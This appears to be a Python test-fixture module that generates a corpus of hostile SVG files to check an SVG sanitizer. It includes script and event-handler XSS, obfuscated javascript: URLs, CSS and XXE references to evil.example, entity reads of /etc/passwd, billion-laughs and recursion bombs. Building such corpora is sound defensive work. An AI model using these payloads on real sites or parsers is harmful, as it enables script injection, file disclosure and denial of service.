"""Hostile SVGs, written by code: one entry per attack, grouped by family.

Each entry is (name, document). Documents embed a visible red square so that "it still renders"
can be checked on what the sanitizer leaves.
"""

from __future__ import annotations

import base64

SVG = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
RED = '<rect x="0" y="0" width="32" height="32" fill="red"/>'


def doc(body: str, root_attributes: str = "", prolog: str = "") -> bytes:
    return f'{prolog}<svg {SVG} {XLINK} width="64" height="64" {root_attributes}>{RED}{body}</svg>'.encode()


_HANDLER_NAMES = (
    "onload onclick onmouseover onerror onfocus onbegin onend onrepeat onactivate onfocusin onanimationstart "
    "ontoggle onpointerdown onunload onscroll onresize onzoom ONLOAD OnClick onwheel"
)
_HANDLERS = _HANDLER_NAMES.split()

_ACTIVE_URLS = {
    "plain": "javascript:alert(1)",
    "spaced": "  javascript:alert(1)",
    "mixed-case": "JaVaScRiPt:alert(1)",
    "tab": "java&#x09;script:alert(1)",
    "newline": "java&#x0A;script:alert(1)",
    "entity-j": "&#106;avascript:alert(1)",
    "entity-colon": "javascript&#x3A;alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data-html": "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
    "data-svg": "data:image/svg+xml;base64," + base64.b64encode(f'<svg {SVG} onload="alert(1)"/>'.encode()).decode(),
    "remote": "https://evil.example/x.svg#a",
    "protocol-relative": "//evil.example/x.svg#a",
    "file": "file:///etc/passwd#a",
}

_CSS = {
    "import-url": "@import url(http://evil.example/x.css);",
    "import-string": "@import 'http://evil.example/x.css';",
    "import-comment": "@import/**/url(http://evil.example/x.css);",
    "import-escaped": "@\\69mport url(http://evil.example/x.css);",
    "url-in-rule": "rect{fill:url(http://evil.example/track.png)}",
    "url-quoted-spaced": "rect{fill:url( 'http://evil.example/track' )}",
    "url-escaped": "rect{fill:u\\72l(http://evil.example/t)}",
    "url-comment": "rect{fill:ur/**/l(http://evil.example/t)}",
    "font-face": "@font-face{font-family:x;src:url(http://evil.example/f.woff)}",
    "behavior": "rect{behavior:url(http://evil.example/x.htc)}",
    "moz-binding": "rect{-moz-binding:url(http://evil.example/x.xml#b)}",
    "expression": "rect{width:expression(alert(1))}",
    "image-set": 'rect{fill:image-set("http://evil.example/a.png" 1x)}',
    "media": "@media all{rect{fill:url(http://evil.example/m)}}",
    "cdata": "<![CDATA[@import url(http://evil.example/c.css);]]>",
    "javascript-url": "rect{fill:url(javascript:alert(1))}",
}

_STYLE_ATTRIBUTES = {
    "background": "background-image:url(http://evil.example/b)",
    "fill-url": "fill:url('http://evil.example/f')",
    "escaped": "fill:\\75 rl(http://evil.example/e)",
    "expression": "width:expression(alert(1))",
    "binding": "-moz-binding:url(http://evil.example/x)",
    "javascript": "fill:url(javascript:alert(1))",
}

_PRESENTATION_URLS = ("fill", "stroke", "filter", "mask", "clip-path", "marker-end", "cursor")


def corpus() -> list[tuple[str, bytes]]:
    """Every hostile document (well over 100)."""
    items: list[tuple[str, bytes]] = []

    def add(name: str, data: bytes) -> None:
        items.append((name, data))

    # event handlers, on the root, shapes, images and animations
    for handler in _HANDLERS:
        add(f"handler-root-{handler}", doc("", f'{handler}="alert(1)"'))
        add(f"handler-rect-{handler}", doc(f'<rect width="5" height="5" {handler}="alert(document.cookie)"/>'))
    add("handler-animate", doc('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'))
    add("handler-image", doc('<image href="x" onerror="alert(1)" width="5" height="5"/>'))

    # script in every namespace, spelling and encoding
    add("script", doc("<script>alert(1)</script>"))
    add("script-ecmascript", doc('<script type="text/ecmascript">alert(1)</script>'))
    add("script-cdata", doc("<script><![CDATA[alert(1)]]></script>"))
    add("script-external", doc('<script href="https://evil.example/x.js"/>'))
    add("script-xlink", doc('<script xlink:href="https://evil.example/x.js"/>'))
    add("script-html-ns", doc('<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'))
    add("script-prefixed-svg", doc('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'))
    add("script-in-defs", doc("<defs><g><script>alert(1)</script></g></defs>"))
    add("script-upper", doc("<SCRIPT>alert(1)</SCRIPT>"))
    add("script-no-namespace", b"<svg><script>alert(1)</script><rect width='9' height='9'/></svg>")
    add("script-utf16", doc("<script>alert(1)</script>").decode().encode("utf-16"))
    add(
        "script-latin1",
        doc("<script>alert('\u00e9')</script>", prolog='<?xml version="1.0" encoding="ISO-8859-1"?>')
        .decode()
        .encode("latin-1"),
    )
    add("script-bom", b"\xef\xbb\xbf" + doc("<script>alert(1)</script>"))
    add("script-in-text", doc("<text>hi<script>alert(1)</script> there</text>"))
    add("handler-listener", doc('<handler type="application/ecmascript">alert(1)</handler><listener event="load"/>'))

    # links and references with active or external URLs
    for name, url in _ACTIVE_URLS.items():
        add(f"a-href-{name}", doc(f'<a href="{url}">{RED}</a>'))
        add(f"a-xlink-{name}", doc(f'<a xlink:href="{url}"><text y="20">click</text></a>'))
        add(f"use-{name}", doc(f'<use href="{url}"/>'))
        add(f"image-{name}", doc(f'<image xlink:href="{url}" width="10" height="10"/>'))
    add("feimage-remote", doc('<filter id="f"><feImage href="https://evil.example/i.png"/></filter>'))
    add("gradient-remote", doc('<linearGradient id="g" href="https://evil.example/g.svg#g"/>'))
    add("pattern-remote", doc('<pattern id="p" xlink:href="//evil.example/p.svg#p"/>'))
    add("textpath-remote", doc('<text><textPath href="https://evil.example/p.svg#p">x</textPath></text>'))
    add("xml-base", doc('<g xml:base="https://evil.example/"><use href="x.svg#a"/></g>'))
    add("use-relative", doc('<use href="other.svg#a"/>'))
    add("a-target", doc(f'<a href="https://phish.example/" target="_top">{RED}</a>'))
    add("html-a", doc('<h:a xmlns:h="http://www.w3.org/1999/xhtml" href="javascript:alert(1)">x</h:a>'))

    # animation that writes active URLs or handlers
    add("set-href-js", doc(f'<a href="#x"><set attributeName="href" to="javascript:alert(1)"/>{RED}</a>'))
    add("set-xlink-href-js", doc('<a><set attributeName="xlink:href" to="javascript:alert(1)"/>x</a>'))
    add("animate-href-values", doc('<a><animate attributeName="href" values="javascript:alert(1)"/>x</a>'))
    add(
        "animate-use-external",
        doc('<use href="#a"><animate attributeName="href" to="https://evil.example/a#b"/></use>'),
    )
    add("set-onload", doc('<set attributeName="onload" to="alert(1)"/>'))
    add("set-style", doc('<set attributeName="style" to="fill:url(http://evil.example/s)"/>'))
    add(
        "set-fill-url",
        doc('<rect width="5" height="5"><set attributeName="fill" to="url(http://evil.example/f)"/></rect>'),
    )
    add(
        "animate-fill-js",
        doc('<rect width="5" height="5"><animate attributeName="fill" values="red;url(javascript:x)"/></rect>'),
    )
    add("animatetransform-href", doc('<animateTransform attributeName="href" to="javascript:alert(1)"/>'))

    # CSS
    for name, sheet in _CSS.items():
        add(f"style-{name}", doc(f"<style>{sheet}</style>"))
    for name, declaration in _STYLE_ATTRIBUTES.items():
        add(f"style-attribute-{name}", doc(f'<rect width="5" height="5" style="{declaration}"/>'))
    for attribute in _PRESENTATION_URLS:
        add(
            f"presentation-url-{attribute}",
            doc(f'<rect width="5" height="5" {attribute}="url(https://evil.example/x#y)"/>'),
        )
    add("stylesheet-pi", doc("", prolog='<?xml-stylesheet href="https://evil.example/x.css" type="text/css"?>'))

    # XML attacks
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    add("billion-laughs", f'<!DOCTYPE svg [<!ENTITY l0 "lol">{laughs}]><svg {SVG}>&l9;</svg>'.encode())
    big = "A" * 50_000
    add("quadratic-blowup", f'<!DOCTYPE svg [<!ENTITY a "{big}">]><svg {SVG}><text>{"&a;" * 200}</text></svg>'.encode())
    add(
        "xxe-file",
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {SVG}><text>&x;</text></svg>'.encode(),
    )
    add(
        "xxe-http",
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "http://evil.example/x">]><svg {SVG}><text>&x;</text></svg>'.encode(),
    )
    add("xxe-parameter", f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><svg {SVG}/>'.encode())
    add("attlist-default-handler", f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {SVG}/>'.encode())
    add("undeclared-entity", f"<svg {SVG}><text>&x;</text></svg>".encode())
    add("external-dtd", doc("", prolog='<!DOCTYPE svg SYSTEM "http://evil.example/svg.dtd">'))
    add(
        "xinclude",
        doc('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    )

    # foreign content and nested documents
    add(
        "foreignobject-html",
        doc(
            '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>'
        ),
    )
    add(
        "foreignobject-iframe",
        doc('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'),
    )
    add(
        "foreignobject-img",
        doc('<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject>'),
    )
    add(
        "switch-foreignobject",
        doc(
            '<switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject><g/></switch>'
        ),
    )
    for element in ("iframe", "embed", "object", "audio", "video", "font-face-uri", "discard", "cursor", "view"):
        add(
            f"element-{element}",
            doc(
                f'<{element} src="https://evil.example/x" data="https://evil.example/y" href="https://evil.example/z"/>'
            ),
        )
    add(
        "meta-refresh",
        doc(
            '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>'
        ),
    )

    # sizes and nesting
    add("huge-dimensions", doc("").replace(b'width="64" height="64"', b'width="100000000" height="100000000"'))
    add("huge-viewbox", f'<svg {SVG} viewBox="0 0 1e12 1e12">{RED}</svg>'.encode())
    add("negative-dimensions", f'<svg {SVG} width="-5" height="-5">{RED}</svg>'.encode())
    add("nan-dimensions", f'<svg {SVG} width="NaN" height="1e999">{RED}</svg>'.encode())
    add("deep-nesting-200", doc("<g>" * 200 + RED + "</g>" * 200))
    add("deep-nesting-5000", doc("<g>" * 5000 + "</g>" * 5000))
    use_laughs = "".join(
        f'<g id="u{i}">' + f'<use href="#u{i - 1}"/>' * 10 + "</g>" if i else '<g id="u0">' + RED + "</g>"
        for i in range(9)
    )
    add("use-laughs", doc(f"<defs>{use_laughs}</defs><use href='#u8'/>"))
    add("use-cycle", doc('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'))
    add("use-self", doc('<g id="s"><use href="#s"/></g>'))
    add("many-elements", doc("<g/>" * 250_000))
    return items
